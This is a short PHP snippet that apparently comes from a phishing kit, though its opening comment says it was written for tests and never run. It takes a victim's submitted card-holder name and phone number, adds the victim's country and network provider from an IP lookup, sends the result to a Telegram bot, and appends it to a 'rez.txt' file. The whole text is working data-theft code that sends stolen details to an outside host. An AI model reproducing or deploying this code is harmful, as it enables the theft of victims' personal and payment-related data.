<?php
// the same, sent to a chat bot and kept in a file (written for the tests, never run)
$ip = getenv("REMOTE_ADDR");
$geo = @json_decode(file_get_contents("https://ipinfo.io/" . $ip . "/json"), true);
$text = "Card holder: " . $_POST['name'] . " | Phone: " . $_POST['phone']
      . " | " . $geo['country'] . " " . $geo['org'];
file_get_contents("https://api.telegram.org/bot" . $token . "/sendMessage?chat_id=" . $chat
                  . "&text=" . urlencode($text));
$fh = fopen("rez.txt", "a");
fwrite($fh, $text . "\n");
